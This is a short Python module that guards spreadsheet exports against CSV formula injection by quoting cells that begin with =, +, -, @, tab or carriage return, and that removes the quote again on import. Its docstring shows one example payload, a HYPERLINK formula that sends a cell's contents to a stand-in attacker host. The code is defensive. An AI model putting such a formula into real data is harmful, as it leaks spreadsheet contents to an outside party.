"""Spreadsheet cells that cannot run: the OWASP rule for CSV injection, and its undoing.

A participant may call themselves `=HYPERLINK("http://evil.example/?"&A2,"Klik")`; opened
in Excel or LibreOffice, a cell starting with = + - @ (or a tab or carriage return that
hides one) becomes a live formula in the organiser's spreadsheet. Exports put a single
quote in front of such text (and XLSX cells are typed as strings); the import takes the
quote off again, so an exported list imports back unchanged.
"""

from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralise(value: Any) -> Any:
    """Text that a spreadsheet would read as a formula, quoted; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return QUOTE + value
    return value


def restore(text: str) -> str:
    """The text as it was before neutralise (a leading quote before a formula start goes)."""
    if text.startswith(QUOTE) and text[1:].startswith(FORMULA_START):
        return text[1:]
    return text
